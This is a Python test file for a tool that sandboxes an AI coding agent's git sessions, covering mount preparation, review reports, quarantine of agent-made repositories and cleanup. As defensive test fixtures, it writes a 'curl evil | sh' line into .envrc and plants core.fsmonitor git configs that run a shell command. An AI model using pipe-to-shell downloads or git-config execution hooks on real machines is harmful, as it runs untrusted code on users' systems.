"""A cloister's session on the host, with real git: prepared before its container runs
(its own git directory, its mounts, its record), reviewed and released after."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from cloister_cli.container.cloisters import Workspace
from cloister_cli.repo.gitmounts import ProtectedPathError
from cloister_cli.repo.projects import Project
from cloister_cli.session import sessions
from cloister_cli.session.review import ReviewTarget
from cloister_cli.start.worktree import make_worktree
from cloister_core.owngit import GIT_DIR_ELSEWHERE, ORIGIN_OBJECTS, POINTER
from cloister_core.paths import CloisterPaths
from cloister_core.sessions import SessionRecord, read_session, write_session
from tests.git_support import hermetic_git, make_repo, run_git


@pytest.fixture(autouse=True)
def _hermetic(monkeypatch: pytest.MonkeyPatch) -> None:
    hermetic_git(monkeypatch)


@pytest.fixture
def paths(tmp_path: Path) -> CloisterPaths:
    return CloisterPaths(config_dir=tmp_path / "config", data_dir=tmp_path / "data")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    path = tmp_path / "home"
    path.mkdir()
    return path


@pytest.fixture
def repo(home: Path) -> Path:
    return make_repo(home / "src" / "api")


def shared(repo: Path) -> Workspace:
    return Workspace(Project("api", repo, git=True), repo)


def targets(prepared: sessions.Prepared) -> dict[str, tuple[str, bool]]:
    mounts = [*prepared.git_plan.own_mounts, *prepared.git_plan.mounts]
    return {mount["Target"]: (mount["Source"], mount["ReadOnly"]) for mount in mounts}


def plant_repository(where: Path, marker: Path) -> Path:
    """A repository whose config runs code when the human's git enters it."""
    made = make_repo(where)
    run_git(made, "config", "core.fsmonitor", f"touch '{marker}'; echo")
    return made


# -- prepare --------------------------------------------------------------------------------------


def test_prepare_makes_the_git_directory_mounts_and_record(
    paths: CloisterPaths, repo: Path, home: Path
) -> None:
    head = run_git(repo, "rev-parse", "HEAD")
    before = datetime.now(UTC)
    prepared = sessions.prepare(paths, shared(repo), "api", home=home, protect=(".envrc",))
    session = prepared.session
    assert read_session(paths, "api") == session
    assert (session.cloister, session.project, session.branch) == ("api", "api", None)
    assert session.worktree == session.checkout == str(repo)
    assert session.common_dir == str(repo / ".git")
    assert session.shared
    assert session.is_git
    assert session.running
    assert session.started_at >= before
    assert session.bases == session.host_heads == {"main": head}
    assert session.protected == (".envrc",)
    assert session.placeholders == (str(repo / ".envrc"),)
    assert session.nested == ()
    assert prepared.notes == ()
    own = paths.cloister_git_dir("api")
    assert (own / "HEAD").read_text(encoding="utf-8") == "ref: refs/heads/main\n"
    found = targets(prepared)
    assert found["/work/.git"] == (str(own), False)
    assert found[ORIGIN_OBJECTS] == (str(repo / ".git" / "objects"), True)
    assert found["/work/.envrc"] == (str(repo / ".envrc"), True)
    assert paths.git_pointer("api").read_text(encoding="utf-8") == POINTER


def test_prepare_a_worktree_cloister(paths: CloisterPaths, repo: Path, home: Path) -> None:
    directory = paths.worktree("api", "feature")
    make_worktree(repo, directory, "feature")
    workspace = Workspace(Project("api", repo, git=True), directory, "feature")
    prepared = sessions.prepare(paths, workspace, "api-feature", home=home)
    session = prepared.session
    assert (session.worktree, session.checkout) == (str(directory), str(repo))
    assert session.branch == "feature"
    assert not session.shared
    assert (directory / "README").read_text(encoding="utf-8") == "hello\n"
    found = targets(prepared)
    assert found["/work/.git"] == (str(paths.git_pointer("api-feature")), True)
    assert found[GIT_DIR_ELSEWHERE] == (str(paths.cloister_git_dir("api-feature")), False)


def test_prepare_without_git(paths: CloisterPaths, home: Path) -> None:
    notes = home / "notes"
    notes.mkdir()
    workspace = Workspace(Project("notes", notes, git=False), notes)
    prepared = sessions.prepare(paths, workspace, "notes", home=home, protect=(".envrc",))
    session = prepared.session
    assert (session.checkout, session.common_dir) == (None, None)
    assert not session.is_git
    assert session.bases == {}
    assert prepared.git_plan.own_mounts == []
    assert set(targets(prepared)) == {"/work/.envrc"}
    assert not paths.git_dirs_dir.exists()


def test_prepare_records_nested_repositories_and_keeps_them_read_only(
    paths: CloisterPaths, repo: Path, home: Path
) -> None:
    make_repo(repo / "vendor" / "lib")
    prepared = sessions.prepare(paths, shared(repo), "api", home=home)
    assert prepared.session.nested == ("vendor/lib",)
    assert "vendor/lib/.git" in prepared.session.protected
    assert targets(prepared)["/work/vendor/lib/.git"][1] is True


def test_a_failed_prepare_leaves_no_git_directory_nor_record(
    paths: CloisterPaths, repo: Path, home: Path, tmp_path: Path
) -> None:
    (tmp_path / "elsewhere").write_text("", encoding="utf-8")
    (repo / ".envrc").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ProtectedPathError):
        sessions.prepare(paths, shared(repo), "api", home=home, protect=(".envrc",))
    assert not paths.cloister_git_dir("api").exists()
    assert not paths.git_pointer("api").exists()
    assert read_session(paths, "api") is None


def test_prepare_tells_where_an_earlier_sessions_branch_went(
    paths: CloisterPaths, repo: Path, home: Path
) -> None:
    tree = run_git(repo, "rev-parse", "HEAD^{tree}")
    agents = run_git(repo, "commit-tree", tree, "-p", "HEAD", "-m", "the agent's")
    run_git(repo, "update-ref", "refs/cloister/api/main", agents)
    prepared = sessions.prepare(paths, shared(repo), "api", home=home)
    (note,) = prepared.notes
    assert note.startswith("the agent's main of its last session (not in yours) is its branch")


# -- report ---------------------------------------------------------------------------------------


def test_report_leaves_out_what_was_there_at_start(
    paths: CloisterPaths, repo: Path, home: Path, tmp_path: Path
) -> None:
    (repo / ".envrc").write_text("export A=1\n", encoding="utf-8")
    plant_repository(repo / "tools" / "human", tmp_path / "marker")
    session = sessions.prepare(paths, shared(repo), "api", home=home).session
    target = sessions.review_target(session)
    assert target == ReviewTarget(repo, repo / ".git", repo / ".git")
    assert sessions.report(session, target).findings == []
    everything = sessions.report(None, target)
    assert {item.kind for item in everything.findings} == {"envrc", "nested-repository"}
    assert everything.session is None
    (repo / ".envrc").write_text("curl evil | sh\n", encoding="utf-8")
    found = sessions.report(session, target)
    assert [item.kind for item in found.findings] == ["envrc"]
    assert found.session == session
    assert not (tmp_path / "marker").exists()


# -- repositories the agent made ------------------------------------------------------------------


def test_move_new_repositories_moves_the_agents_never_the_humans(
    paths: CloisterPaths, repo: Path, home: Path, tmp_path: Path
) -> None:
    marker = tmp_path / "marker"
    human = make_repo(repo / "vendor" / "lib")
    session = sessions.prepare(paths, shared(repo), "api", home=home).session
    made = plant_repository(repo / "tools" / "made", marker)
    run_git(human, "config", "core.fsmonitor", f"touch '{marker}'; echo")  # the agent's doing
    found = sessions.report(session, sessions.review_target(session))
    assert {item.path.rstrip("/") for item in found.findings} >= {"tools/made", "vendor/lib"}
    moved = sessions.move_new_repositories(paths, found)
    assert len(moved) == 1
    assert "tools/made" in moved[0]
    assert not (made / ".git").exists()
    assert (made / "README").is_file()  # only its git directory goes
    assert (human / ".git").is_dir()  # present at start: the human's, reported, not moved
    quarantined = list((paths.quarantine_dir / "api").rglob("config"))
    assert len(quarantined) == 1
    assert "fsmonitor" in quarantined[0].read_text(encoding="utf-8")
    after = sessions.report(session, sessions.review_target(session))
    assert [item.path.rstrip("/") for item in after.findings] == ["vendor/lib"]
    assert not marker.exists()


def test_move_new_repositories_without_a_session_or_anything_new(
    paths: CloisterPaths, repo: Path, home: Path, tmp_path: Path
) -> None:
    plant_repository(repo / "tools" / "made", tmp_path / "marker")
    target = ReviewTarget(repo, repo / ".git", repo / ".git")
    assert sessions.move_new_repositories(paths, sessions.report(None, target)) == []
    assert (repo / "tools" / "made" / ".git").is_dir()
    session = sessions.prepare(paths, shared(repo), "api", home=home).session
    assert sessions.move_new_repositories(paths, sessions.report(session, target)) == []
    assert not paths.quarantine_dir.exists()


# -- release ---------------------------------------------------------------------------------------


def test_release_records_the_stop_and_removes_the_placeholders(
    paths: CloisterPaths, repo: Path, home: Path
) -> None:
    protect = (".envrc", ".vscode/tasks.json", ".devcontainer")
    session = sessions.prepare(paths, shared(repo), "api", home=home, protect=protect).session
    (repo / ".devcontainer" / "devcontainer.json").write_text("{}", encoding="utf-8")
    released = sessions.release(paths, session)
    assert released.stopped_at is not None
    assert read_session(paths, "api") == released
    assert not (repo / ".envrc").exists()
    assert not (repo / ".vscode").exists()
    assert (repo / ".devcontainer" / "devcontainer.json").is_file()  # written into: stays
    again = sessions.release(paths, released)
    assert again.stopped_at == released.stopped_at  # the first stop is the one recorded
    assert paths.cloister_git_dir("api").is_dir()  # removed once synced, not here


def test_release_follows_no_link_the_agent_put_on_the_way(
    paths: CloisterPaths, repo: Path, home: Path, tmp_path: Path
) -> None:
    session = sessions.prepare(
        paths, shared(repo), "api", home=home, protect=(".vscode/tasks.json",)
    ).session
    human = tmp_path / "human"
    (human / "tasks.json").mkdir(parents=True)
    (repo / ".vscode" / "tasks.json").rmdir()
    (repo / ".vscode").rmdir()
    (repo / ".vscode").symlink_to(human)
    sessions.release(paths, session)
    assert (human / "tasks.json").is_dir()


def test_release_without_a_record_still_removes_the_placeholders(
    paths: CloisterPaths, repo: Path, home: Path
) -> None:
    session = sessions.prepare(paths, shared(repo), "api", home=home, protect=(".envrc",)).session
    paths.session_file("api").unlink()
    assert sessions.release(paths, session) == session
    assert not (repo / ".envrc").exists()


def test_a_stand_in_another_cloister_mounts_outlives_the_stop_of_its_maker(
    paths: CloisterPaths, repo: Path, home: Path
) -> None:
    # `start` and `start -p other` in one directory: the second finds the first one's
    # stand-in and mounts it read-only. Removing it at the first one's stop would take
    # the second one's read-only mount away (the kernel detaches it), so it stays, listed,
    # until no open cloister keeps it.
    maker = sessions.prepare(paths, shared(repo), "api", home=home, protect=(".envrc",)).session
    other = sessions.prepare(paths, shared(repo), "web", home=home, protect=(".envrc",)).session
    assert maker.placeholders == (str(repo / ".envrc"),)
    assert (other.placeholders, other.protected) == ((), (".envrc",))
    stopped = sessions.release(paths, maker)
    assert (repo / ".envrc").is_dir()
    assert stopped.placeholders == (str(repo / ".envrc"),)
    sessions.release(paths, other)
    assert (repo / ".envrc").is_dir()  # the other never made it: not its to remove
    swept = sessions.forget_placeholders(paths, stopped)  # the next start, stop or gc
    assert not (repo / ".envrc").exists()
    assert swept.placeholders == ()


# -- find -----------------------------------------------------------------------------------------


def test_find_by_name_or_by_the_deepest_work_tree(paths: CloisterPaths, tmp_path: Path) -> None:
    now = datetime.now(UTC)
    outer, inner = tmp_path / "src" / "api", tmp_path / "src" / "api" / "sub"
    (inner / "deep").mkdir(parents=True)
    for name, worktree in (("outer", outer), ("inner", inner)):
        write_session(
            paths,
            SessionRecord(cloister=name, project=name, worktree=str(worktree), started_at=now),
        )
    found = sessions.find(paths, None, inner / "deep")
    assert found is not None
    assert found.cloister == "inner"
    found = sessions.find(paths, None, outer)
    assert found is not None
    assert found.cloister == "outer"
    assert sessions.find(paths, None, tmp_path) is None
    named = sessions.find(paths, "outer", tmp_path)
    assert named is not None
    assert named.cloister == "outer"
    assert sessions.find(paths, "nobody", outer) is None
